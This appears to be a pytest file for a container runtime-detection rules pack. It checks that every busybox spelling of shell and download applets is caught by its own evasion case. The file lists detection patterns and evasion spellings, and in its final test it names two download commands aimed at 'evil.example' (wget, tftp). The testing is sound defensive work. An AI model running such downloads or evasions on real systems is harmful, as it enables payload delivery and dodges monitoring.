"""Each spelling of a busybox applet in serving_guard_shell (`busybox sh`, `busybox ./sh -c id`, argv[0]
`-sh` or `/x/sh`) and serving_guard_download_command (`busybox ./wget URL`, argv[0] `-wget`) is a
keyword case of its own, built from the operands of the macro's busybox branch: a tuning that replaces
the macro without one (an `in` item, a `startswith`, a glob) fails on that spelling's case, blamed on
the user's macro. Before, most of them were caught by none of the reviews' cases."""

from __future__ import annotations

import json
from fnmatch import fnmatchcase
from pathlib import Path
from typing import Any

import pytest

from responder.cli import main
from responder.rulespack.evasion_cases import evasion_cases
from responder.rulespack.evasions_common import DOWNLOAD, SHELL, visible_edges
from responder.rulespack.evasions_keywords import Keyword, PackMacros
from responder.rulespack.expand import load_paths
from responder.rulespack.sysdig import Sysdig

from .conftest import PACK, failing_cases

pytestmark = pytest.mark.timeout(300)

SHELL_MACRO = "serving_guard_shell"
DOWNLOAD_MACRO = "serving_guard_download_command"
GROUPS = {
    SHELL_MACRO: f"{SHELL_MACRO}: each busybox applet spelling is a shell",
    DOWNLOAD_MACRO: f"{DOWNLOAD_MACRO}: each busybox applet spelling is a download",
}
# Operands dropped from each macro (text as the condition writes it, whitespace folded: old -> new),
# one of each kind, and the cases that then fail.
DROPPED = {
    SHELL_MACRO: (
        {
            "proc.args in (sh, ash, hush, bash)": "proc.args in (sh, ash, bash)",
            ' or proc.args startswith "hush "': "",
            ' or proc.args glob "[./]*/bash *"': "",
            'proc.exe in ("-sh", "-ash", "-hush", "-bash")': 'proc.exe in ("-sh", "-hush", "-bash")',
            ' or proc.exe glob "*/hush"': "",
        },
        [
            "proc.args glob [./]*/bash *",
            "proc.args in hush",
            "proc.args startswith hush<space>",
            "proc.exe glob */hush",
            "proc.exe in -ash",
        ],
    ),
    DOWNLOAD_MACRO: (
        {
            ' or proc.args startswith "tftp "': "",
            ' or proc.args glob "[./]*/ftpget *"': "",
            'proc.exe in (wget, tftp, ftpget, "-wget", "-tftp", "-ftpget")': (
                'proc.exe in (wget, tftp, ftpget, "-wget", "-ftpget")'
            ),
            ' or proc.exe glob "*/wget"': "",
        },
        [
            "proc.args glob [./]*/ftpget *",
            "proc.args startswith tftp<space>",
            "proc.exe glob */wget",
            "proc.exe in -tftp",
        ],
    ),
}


def _tuning(macro: str) -> str:
    """The pack's macro without the operands of DROPPED, as a user's replace."""
    condition = " ".join(load_paths([str(PACK)]).macros[macro].condition.split())
    for old, new in DROPPED[macro][0].items():
        assert condition.count(old) == 1, old
        condition = condition.replace(old, new)
    return f"- macro: {macro}\n  condition: >\n    {condition}\n  override:\n    condition: replace\n"


def _matches(keyword: Keyword, exe: str, args: str) -> bool:
    text = exe if keyword.field == "proc.exe" else args
    assert keyword.field in ("proc.exe", "proc.args"), keyword
    if keyword.op == "in":
        return text == keyword.value
    if keyword.op == "startswith":
        return text.startswith(keyword.value)
    assert keyword.op == "glob", keyword
    return fnmatchcase(text, keyword.value)  # libsinsp's glob: fnmatch(3) without flags


@pytest.mark.parametrize("macro", GROUPS)
def test_every_applet_spelling_is_a_case_that_holds_it_alone(macro: str) -> None:
    """So a tuning that drops one spelling fails its case: no other spelling of the branch matches,
    nor a shell or download tool named by a list (the case starts busybox, by name and path)."""
    ruleset = load_paths([str(PACK)])
    branch = [k for k in PackMacros(ruleset).keywords(macro) if any("busybox" in n for n in k.needs)]
    labels = [f"{k.field} {k.op} {visible_edges(k.value)}" for k in branch]
    cases = [c for c in evasion_cases() if c.group == GROUPS[macro]]
    assert [c.id for c in cases] == [f"{GROUPS[macro]}[{label}]" for label in labels]
    assert len(cases) == {SHELL_MACRO: 24, DOWNLOAD_MACRO: 15}[macro]
    shells = {
        *ruleset.list_items["serving_guard_shell_binaries"],
        *ruleset.list_items["serving_guard_shell_paths"],
    }
    for case in cases:
        fields = case.witness[0].fields
        assert (fields["proc.name"], fields["proc.exepath"]) == ("busybox", "/usr/bin/busybox")
        exe, args = str(fields["proc.exe"]), str(fields["proc.args"])
        assert exe not in shells, case.id  # the branch's `proc.exe in` the shell lists
        matched = [label for k, label in zip(branch, labels, strict=True) if _matches(k, exe, args)]
        assert matched == [case.id[len(case.group) + 1 : -1]], case.id


@pytest.mark.parametrize("macro", GROUPS)
def test_dropping_applet_spellings_fails_on_them(sysdig: Sysdig, tmp_path: Path, macro: str) -> None:
    expected = [f"{GROUPS[macro]}[{label}]" for label in DROPPED[macro][1]]
    assert failing_cases(sysdig, tmp_path, _tuning(macro), f"{macro}:") == expected


def test_applet_spellings_dropped_are_caught_by_their_cases_and_blamed_on_the_macro(
    sysdig: Sysdig, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The whole `rules test`, both macros replaced: the new cases fail, each blamed on the user's
    replace of its macro alone (what else fails is a reviews' case that held that spelling too)."""
    tuning = tmp_path / "busybox.yaml"
    tuning.write_text(_tuning(SHELL_MACRO) + _tuning(DOWNLOAD_MACRO))
    assert main(["rules", "test", "--format", "json", "--override", str(tuning)]) == 1
    blame: list[dict[str, Any]] = json.loads(capsys.readouterr().out)["examples_and_evasions"]["blame"]
    lines = {SHELL_MACRO: 2, DOWNLOAD_MACRO: 7}
    new = sorted((e for e in blame if e["id"].split("[")[0] in GROUPS.values()), key=lambda e: str(e["id"]))
    assert new == sorted(
        (
            {
                "kind": "evasion",
                "id": f"{GROUPS[macro]}[{label}]",
                "rule": {SHELL_MACRO: SHELL, DOWNLOAD_MACRO: DOWNLOAD}[macro],
                "how": "alone",
                "items": [
                    {
                        "text": f"{tuning}:{lines[macro]} (macro {macro})",
                        "file": str(tuning),
                        "line": lines[macro],
                        "item_line": lines[macro] - 1,
                    }
                ],
            }
            for macro in (SHELL_MACRO, DOWNLOAD_MACRO)
            for label in DROPPED[macro][1]
        ),
        key=lambda e: str(e["id"]),
    )
    # The reviews' cases that held two of the download spellings (`exec -a /tmp/x/wget`, `busybox
    # tftp`): none held the shell spellings dropped, nor busybox ./ftpget or -tftp.
    assert sorted(entry["id"] for entry in blame if entry not in new) == [
        "busybox download applets by argv[0] are downloads[/tmp/x/wget http://evil.example/x (busybox)]",
        "download evasions are downloads[busybox tftp -g -r x evil.example]",
    ]
